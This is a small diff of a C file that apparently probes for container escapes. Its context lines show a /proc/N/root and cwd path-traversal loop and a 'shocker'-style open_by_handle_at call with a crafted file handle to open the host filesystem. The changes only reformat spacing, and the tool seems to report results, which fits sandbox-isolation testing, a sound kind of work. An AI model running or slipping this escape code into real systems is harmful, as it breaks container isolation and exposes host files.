@@ -25,7 +25,7 @@ static void try_proc_roots(const char *hostpath)
 	int found = 0;
 	/* /proc/N/root and /proc/N/cwd for every pid a fresh namespace could hold, and some more. */
 	for (int pid = 1; pid <= 64; pid++) {
-		const char *kinds[] = { "root", "cwd" };
+		const char *kinds[] = {"root", "cwd"};
 		for (int k = 0; k < 2; k++) {
 			if (k == 1) {
 				snprintf(path, sizeof(path), "/proc/%d/cwd/../../../../../..%s", pid, hostpath);
@@ -103,7 +103,7 @@ static void try_shocker(const char *hostpath)
 	memset(&h, 0, sizeof(h));
 	h.fh.handle_type = 1;
 	h.fh.handle_bytes = 8;
-	unsigned ino_gen[2] = { 2, 0 };
+	unsigned ino_gen[2] = {2, 0};
 	memcpy(h.fh.f_handle, ino_gen, sizeof(ino_gen));
 	int rfd = (int)esc_report("open_by_handle_at", open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY));
 	if (rfd >= 0) {
